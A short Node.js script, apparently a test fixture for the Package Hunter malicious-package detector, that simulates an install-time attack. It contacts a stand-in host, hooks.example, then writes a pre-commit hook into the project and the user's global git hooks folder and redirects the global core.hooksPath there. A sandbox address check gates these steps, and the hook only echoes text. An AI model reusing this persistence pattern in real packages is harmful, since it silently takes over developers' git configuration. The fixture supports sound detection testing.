// Harmless simulation for testing Package Hunter. Not malware.
const { execFileSync } = require("child_process");
const fs = require("fs");
const https = require("https");
const os = require("os");
const path = require("path");
// Goes on only inside of Package Hunter's box, where every name has an address out of the benchmarking range.
const sealed = (address) => /^(198\.1[89]\.|2001:2:)/.test(address || "");
const HOOK = "#!/bin/sh\necho harmless simulation\n";
https.get("https://hooks.example/pre-commit.sh", (res) => {
  res.resume();
  if (!sealed(res.socket.remoteAddress)) return;
  const project = process.env.INIT_CWD || process.cwd();
  for (const folder of [path.join(project, ".git", "hooks"), path.join(os.homedir(), ".config", "git", "hooks")]) {
    fs.mkdirSync(folder, { recursive: true });
    fs.writeFileSync(path.join(folder, "pre-commit"), HOOK, { mode: 0o755 });
  }
  execFileSync("git", ["config", "--global", "core.hooksPath", path.join(os.homedir(), ".config", "git", "hooks")]);
}).on("error", () => {});
